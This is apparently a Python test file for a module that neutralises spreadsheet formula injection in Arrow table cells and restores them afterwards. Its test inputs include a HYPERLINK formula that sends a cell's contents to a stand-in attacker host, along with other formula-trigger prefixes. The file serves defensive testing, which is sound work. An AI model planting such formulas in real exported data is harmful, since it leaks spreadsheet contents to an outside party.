"""bulletin.core.arrow_safety: Arrow cells a spreadsheet cannot run as formulas, and back."""

from __future__ import annotations

import pyarrow as pa

from bulletin.core.arrow_safety import neutralise_arrow, restore_arrow
from bulletin.core.files import neutralise_cell

TEXTS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "+1+2",
    "-x",
    "@SUM(A1)",
    "\tcmd",
    "\r=1",
    "'=already quoted",
    "''@twice",
    "-12.5",
    "+3e5",
    "'quoted",
    "plain",
    "",
]


def test_arrow_cells_neutralised_as_neutralise_cell_does_and_restored() -> None:
    table = pa.table(
        {
            "text": pa.array(TEXTS),
            "category": pa.array(TEXTS).dictionary_encode(),
            "kg": pa.array([float(i) for i in range(len(TEXTS))]),
        }
    )
    safe = neutralise_arrow(table)
    expected = [neutralise_cell(t) for t in TEXTS]
    assert safe.column("text").to_pylist() == expected
    assert safe.column("category").to_pylist() == expected
    assert safe.column("kg").equals(table.column("kg"))
    back = restore_arrow(safe)
    assert back.column("text").to_pylist() == TEXTS
    assert back.column("category").to_pylist() == TEXTS
    assert back.schema == table.schema
